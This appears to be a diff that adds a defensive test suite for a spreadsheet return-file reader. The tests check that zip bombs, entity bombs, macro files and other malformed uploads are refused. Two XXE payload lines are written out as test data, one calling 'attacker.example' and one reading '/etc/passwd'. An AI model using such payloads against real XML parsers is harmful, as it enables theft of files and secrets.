@@ -1,0 +1,323 @@
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { readInChild, readReturnFile, RETURN_FILE_LIMITS, type ReturnFileLimits } from '../../sheets/read-return-file';
+import type { ReturnReading } from '../../sheets/read-return-sheet';
+import { checkFileBytes, checkZipContainer } from '../../sheets/return-file-checks';
+import {
+  afterXmlDeclaration,
+  compoundFile,
+  corruptedSheetData,
+  csvOf,
+  encryptedWorkbook,
+  ENTITY_BOMB,
+  honestBomb,
+  lyingBomb,
+  MB,
+  macroWorkbook,
+  odsFile,
+  withParts,
+  writeZip,
+  xlsWorkbook,
+  zipParts,
+} from './bad-files';
+import { edited, filledSomuSheet, seedAnswer, somuExpected } from './fixtures';
+
+const ANSWER_NOS = [3, 10, 13, 14, 16, 17, 18, 19, 20, 21, 22];
+const CHILDREN = join(__dirname, 'children');
+
+let filled: Buffer;
+beforeAll(async () => {
+  filled = await filledSomuSheet();
+});
+
+const read = (data: Buffer, limits: Partial<ReturnFileLimits> = {}): Promise<ReturnReading> => readReturnFile(data, somuExpected(), limits);
+
+/** The one problem a refused file has, without its message. */
+async function refusedFor(data: Buffer, limits: Partial<ReturnFileLimits> = {}): Promise<{ code: string; message: string }> {
+  const reading = await read(data, limits);
+  expect(reading.ok).toBe(false);
+  expect(reading.answers).toEqual([]);
+  expect(reading.problems).toHaveLength(1);
+  return reading.problems[0]!;
+}
+
+describe('readReturnFile: a clean return', () => {
+  it('accepts the filled sheet, read in a child process, with every answer', async () => {
+    const started = performance.now();
+    const reading = await read(filled);
+    const elapsed = performance.now() - started;
+    expect(reading).toEqual({ ok: true, problems: [], answers: ANSWER_NOS.map(seedAnswer) });
+    // Node, tsx and exceljs start in about 0.6 s and the sheet reads in about 0.2 s; a loaded CI machine gets room.
+    expect(elapsed).toBeLessThan(10_000);
+    console.info(`readReturnFile: a filled sheet checked in ${Math.round(elapsed)} ms`);
+  });
+
+  it('gives the problems of a sheet that is a sheet, as readReturnSheet does', async () => {
+    const reading = await read(await edited(filled, (wb) => (wb.getWorksheet('回答')!.getCell('O12').value = null)));
+    expect(reading.problems).toEqual([{ code: 'missing-mark', cell: 'O12', no: 14, message: 'セル O12（整理番号14）: 取組状況の記号が入力されていません' }]);
+  });
+
+  it('checks several files at once', async () => {
+    const readings = await Promise.all([filled, Buffer.alloc(0), filled].map((data) => read(data)));
+    expect(readings.map((r) => r.ok)).toEqual([true, false, true]);
+  });
+});
+
+describe.concurrent('readReturnFile: files that are not an xlsx, told by content', () => {
+  it('an empty file', async () => {
+    expect(await refusedFor(Buffer.alloc(0))).toEqual({ code: 'empty-file', message: 'ファイルが空です（0バイト）。回答様式に入力して保存したファイルを添付してください' });
+  });
+
+  it('a 50 MB file, refused by its size before anything parses it', async () => {
+    // The sheet, then zeros: parsed, it would be a zip without its end record (corrupt-file).
+    const big = Buffer.alloc(50 * MB);
+    filled.copy(big);
+    expect(checkFileBytes(big, RETURN_FILE_LIMITS)).toMatchObject({ code: 'file-too-large' });
+    const problem = await refusedFor(big);
+    expect(problem).toEqual({
+      code: 'file-too-large',
+      message: 'ファイルが大きすぎます（50.0MB。上限は10.0MBです）。お送りした回答様式に入力したファイルは通常1MBに満たない大きさです。画像などを貼り付けずに、回答様式に入力して提出してください',
+    });
+  });
+
+  it('an Excel 97-2003 workbook (.xls)', async () => {
+    const problem = await refusedFor(xlsWorkbook(filled));
+    expect(problem.code).toBe('xls-file');
+    expect(problem.message).toContain('Excel 97-2003形式（.xls）');
+  });
+
+  it('a workbook encrypted with a password, which Office wraps in a compound file', async () => {
+    const problem = await refusedFor(encryptedWorkbook(filled));
+    expect(problem.code).toBe('encrypted-file');
+    expect(problem.message).toContain('パスワードで保護（暗号化）');
+  });
+
+  it('a real encrypted workbook: the filled sheet encrypted with a password to open, as Excel does it', async () => {
+    // Made once with msoffcrypto-tool (OOXMLFile.encrypt, agile encryption, the password himitsu) from the filled 総務課 sheet.
+    const problem = await refusedFor(readFileSync(join(__dirname, 'files', 'encrypted-somu.xlsx')));
+    expect(problem.code).toBe('encrypted-file');
+  });
+
+  it('a compound file that only mentions the encryption streams in its content is an .xls', async () => {
+    // The names in a cell's text, not in the directory: not at a directory entry's place.
+    const mention = Buffer.concat([Buffer.alloc(5), Buffer.from('EncryptedPackage\0', 'utf16le')]);
+    expect((await refusedFor(compoundFile(['Workbook'], mention))).code).toBe('xls-file');
+  });
+
+  it('a macro-enabled workbook (.xlsm), by its VBA project or by its content type', async () => {
+    for (const variant of [{}, { contentType: false }, { vbaProject: false }]) {
+      const problem = await refusedFor(await macroWorkbook(filled, variant));
+      expect(problem.code).toBe('macro-file');
+      expect(problem.message).toContain('マクロ有効ブック（.xlsm）');
+    }
+  });
+
+  it('a CSV or text file, in UTF-8, Shift_JIS or UTF-16 ("Unicode テキスト")', async () => {
+    for (const encoding of ['utf8', 'shift_jis', 'utf16le-bom'] as const) {
+      const csv = await csvOf(filled, encoding);
+      expect(csv.length).toBeGreaterThan(1000);
+      const problem = await refusedFor(csv);
+      expect(problem.code, encoding).toBe('text-file');
+      expect(problem.message).toContain('CSVやテキストなど');
+    }
+  });
+
+  it('a workbook saved as Strict Open XML, whose namespaces exceljs does not read', async () => {
+    const strict = await withParts(filled, (parts) => {
+      const workbook = parts.get('xl/workbook.xml')!.toString('utf8').replace('http://schemas.openxmlformats.org/spreadsheetml/2006/main', 'http://purl.oclc.org/ooxml/spreadsheetml/main');
+      parts.set('xl/workbook.xml', Buffer.from(workbook, 'utf8'));
+    });
+    expect((await refusedFor(strict)).code).toBe('strict-xlsx');
+  });
+
+  it('an OpenDocument spreadsheet (.ods)', async () => {
+    expect((await refusedFor(odsFile())).code).toBe('ods-file');
+  });
+
+  it('a PDF or another binary file', async () => {
+    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), Buffer.from([0, 1, 2, 3, 0x9c, 0x78])]);
+    expect((await refusedFor(pdf)).code).toBe('not-xlsx');
+  });
+
+  it('a zip that is not a workbook, and an empty zip', async () => {
+    const zip = writeZip([{ name: '回答.txt', data: Buffer.from('回答です') }]);
+    expect((await refusedFor(zip)).code).toBe('not-xlsx');
+    expect((await refusedFor(writeZip([]))).code).toBe('not-xlsx');
+  });
+
+  it('a truncated file (a download cut short)', async () => {
+    const problem = await refusedFor(filled.subarray(0, Math.floor(filled.length / 2)));
+    expect(problem).toEqual({ code: 'corrupt-file', message: 'ファイルが壊れていて開けません。回答様式をもう一度保存し、そのファイルを提出してください' });
+  });
+
+  it('a zip whose sheet data does not inflate', async () => {
+    expect((await refusedFor(await corruptedSheetData(filled))).code).toBe('corrupt-file');
+  });
+
+  it('a zip whose central directory points outside the file', async () => {
+    const broken = Buffer.from(filled);
+    const end = broken.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
+    broken.writeUInt32LE(broken.length * 2, end + 16);
+    expect((await refusedFor(broken)).code).toBe('corrupt-file');
+  });
+});
+
+describe.concurrent('readReturnFile: hostile zips, stopped before exceljs opens them', () => {
+  it('too many parts', async () => {
+    const many = await withParts(filled, (parts) => {
+      for (let i = 0; i < 1200; i++) parts.set(`customXml/item${i}.xml`, Buffer.from('<a/>'));
+    });
+    const problem = await refusedFor(many);
+    expect(problem.code).toBe('too-many-parts');
+    expect(problem.message).toContain(`（${1200 + (await zipParts(filled)).size}個。上限は1000個です）`);
+  });
+
+  it('a part that honestly declares a huge size, refused from the central directory', async () => {
+    const bomb = await honestBomb(filled, 48);
+    expect(bomb.length).toBeLessThan(100 * 1024);
+    const problem = await refusedFor(bomb);
+    expect(problem.code).toBe('part-too-large');
+    expect(problem.message).toMatch(/^ファイル内の「xl\/worksheets\/sheet1\.xml」は展開すると48\.0MBになり、上限（32\.0MB）を超えます/);
+  });
+
+  it('parts whose declared sizes add up past the limit', async () => {
+    const parts = await zipParts(filled);
+    const pictures = [1, 2, 3].map((i) => ({ name: `xl/media/image${i}.png`, data: Buffer.alloc(30 * MB) }));
+    const problem = await refusedFor(writeZip([...[...parts].map(([name, data]) => ({ name, data })), ...pictures]));
+    expect(problem.code).toBe('expanded-too-large');
+    expect(problem.message).toBe('ファイル全体を展開すると90.1MB以上になり、上限（64.0MB）を超えます。お送りした回答様式に入力して提出してください');
+  });
+
+  it('a 1 MB file whose sheet declares 14 KB and inflates to 1 GB, stopped at the declared size', async () => {
+    const bomb = await lyingBomb(filled, 1024);
+    expect(bomb.length).toBeLessThan(1.1 * MB);
+    const problem = await refusedFor(bomb);
+    expect(problem).toEqual({
+      code: 'part-size-mismatch',
+      message: 'ファイル内の「xl/worksheets/sheet1.xml」の大きさの記録が中身と合いません（壊れているか、手を加えられたファイルです）。回答様式をもう一度保存し、そのファイルを提出してください',
+    });
+  });
+
+  it('stops inflating the lying part at once, even in this process', async () => {
+    const bomb = await lyingBomb(filled, 1024);
+    const started = performance.now();
+    expect(await checkZipContainer(bomb, RETURN_FILE_LIMITS)).toMatchObject({ code: 'part-size-mismatch' });
+    // Inflating the gigabyte takes about 2 s, and scanning it for a DOCTYPE several more.
+    expect(performance.now() - started).toBeLessThan(1_500);
+  });
+
+  it('an XML part with an entity bomb', async () => {
+    const bomb = await withParts(filled, (parts) => parts.set('xl/sharedStrings.xml', afterXmlDeclaration(parts.get('xl/sharedStrings.xml')!, ENTITY_BOMB)));
+    expect(await refusedFor(bomb)).toEqual({
+      code: 'xml-doctype',
+      message: 'ファイル内の「xl/sharedStrings.xml」にDOCTYPE宣言があります。Excelが保存するファイルにはないもので、安全のため読みません。お送りした回答様式に入力し、Excelで保存して提出してください',
+    });
+  });
+
+  it('an XML part with an external entity, never fetched', async () => {
+    const external = '<!DOCTYPE workbook [<!ENTITY ext SYSTEM "http://attacker.example/secret">]>';
+    const bomb = await withParts(filled, (parts) => parts.set('xl/workbook.xml', afterXmlDeclaration(parts.get('xl/workbook.xml')!, external)));
+    const problem = await refusedFor(bomb);
+    expect(problem.code).toBe('xml-doctype');
+    expect(problem.message).toContain('「xl/workbook.xml」');
+  });
+
+  it('a DOCTYPE in a UTF-16 part, and in lower case', async () => {
+    const utf16 = await withParts(filled, (parts) => {
+      const xml = `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Properties SYSTEM "file:///etc/passwd"><Properties/>`;
+      parts.set('docProps/app.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
+    });
+    expect(await refusedFor(utf16)).toMatchObject({ code: 'xml-doctype', message: expect.stringContaining('「docProps/app.xml」') });
+    const lower = await withParts(filled, (parts) => parts.set('xl/styles.xml', afterXmlDeclaration(parts.get('xl/styles.xml')!, '<!doctype x>')));
+    expect((await refusedFor(lower)).code).toBe('xml-doctype');
+  });
+
+  it('leaves a DOCTYPE in a picture alone (an SVG may have one)', async () => {
+    const withSvg = await withParts(filled, (parts) => parts.set('xl/media/image1.svg', Buffer.from('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>')));
+    expect((await read(withSvg)).ok).toBe(true);
+  });
+});
+
+describe('readReturnFile: the child process that parses, under its limits', () => {
+  let big: Buffer;
+  beforeAll(async () => {
+    // 20,000 rows pasted under the table: a real workbook that takes seconds and hundreds of MB to read.
+    big = await edited(filled, (wb) => {
+      const sheet = wb.getWorksheet('回答')!;
+      for (let row = 30; row < 20_030; row++) sheet.getRow(row).values = [row, row * 2, `メモ${row}`, row / 7];
+    });
+  }, 60_000);
+
+  it('reads the large workbook within the default limits, and names the rows added as one block', async () => {
+    const reading = await read(big);
+    expect(reading.problems).toMatchObject([{ code: 'added-row', cell: 'A30' }]);
+    expect(reading.problems[0]!.message).toContain('（30〜20029行目）');
+  }, 60_000);
+
+  it('stops reading at the time limit', async () => {
+    const problem = await refusedFor(big, { timeoutMs: 300 });
+    expect(problem).toEqual({
+      code: 'read-timeout',
+      message: 'ファイルを読み取れませんでした（時間切れ：1秒以内に読み終わりませんでした）。お送りした回答様式に入力し、保存し直したファイルを提出してください',
+    });
+  });
+
+  it('stops reading at the heap limit (V8 aborts the child)', async () => {
+    const problem = await refusedFor(big, { maxHeapMb: 48 });
+    expect(problem.code).toBe('read-memory');
+    expect(problem.message).toContain('メモリの上限48MBを超えました');
+  });
+
+  it('stops reading at the resident memory limit: the filled sheet reads in under 100 MB, the large one needs over 150', async () => {
+    expect((await read(filled, { maxRssMb: 125 })).ok).toBe(true);
+    const problem = await refusedFor(big, { maxRssMb: 125 });
+    expect(problem.code).toBe('read-memory');
+    expect(problem.message).toContain('メモリの上限125MBを超えました');
+  });
+
+  const stub = (name: string, limits: Partial<ReturnFileLimits> = {}) =>
+    readInChild(filled, somuExpected(), { ...RETURN_FILE_LIMITS, ...limits }, join(CHILDREN, name));
+
+  it('kills a child whose Buffers grow past the memory limit, which a heap limit would not stop', async () => {
+    const reading = await stub('grows-buffers.cjs', { maxRssMb: 256 });
+    expect(reading.problems).toMatchObject([{ code: 'read-memory' }]);
+  });
+
+  it('kills a child stuck in a loop at the time limit', async () => {
+    const reading = await stub('spins.cjs', { timeoutMs: 500 });
+    expect(reading.problems).toMatchObject([{ code: 'read-timeout' }]);
+  });
+
+  it('turns a crash of the child into a problem', async () => {
+    const reading = await stub('crashes.cjs');
+    expect(reading.problems).toEqual([{ code: 'read-failed', message: 'ファイルを読み取れませんでした（読み取りが異常終了しました）。お送りした回答様式に入力し、保存し直したファイルを提出してください' }]);
+  });
+
+  it('raises when the child cannot start at all: the installation is at fault, not the file', async () => {
+    await expect(stub('fails-to-start.cjs')).rejects.toThrow(/ended before it started/);
+  });
+});
+
+describe('readReturnFile: the corrected file', () => {
+  it('accepts the sheet once the division sends the right file', async () => {
+    // After an .xlsm, a CSV and a truncated file, the division attaches the sheet itself.
+    for (const wrong of [await macroWorkbook(filled), await csvOf(filled, 'shift_jis'), filled.subarray(0, 1000)]) expect((await read(wrong)).ok).toBe(false);
+    expect((await read(filled)).ok).toBe(true);
+  });
+
+  it('accepts a sheet with an 8 MB picture pasted in, sent over to the child whole', async () => {
+    const picture = randomBytes(8 * MB);
+    const withPicture = await withParts(filled, (parts) => parts.set('xl/media/image1.png', picture));
+    expect(withPicture.length).toBeGreaterThan(8 * MB);
+    expect((await read(withPicture)).ok).toBe(true);
+  });
+
+  it('accepts a sheet zipped another way: parts in another order, stored rather than deflated, with folder entries', async () => {
+    const parts = [...(await zipParts(filled))].reverse();
+    const folders = ['xl/', 'xl/worksheets/'].map((name) => ({ name, data: Buffer.alloc(0), method: 0 as const }));
+    const reading = await read(writeZip([...folders, ...parts.map(([name, data]) => ({ name, data, method: 0 as const }))]));
+    expect(reading.ok).toBe(true);
+  });
+});
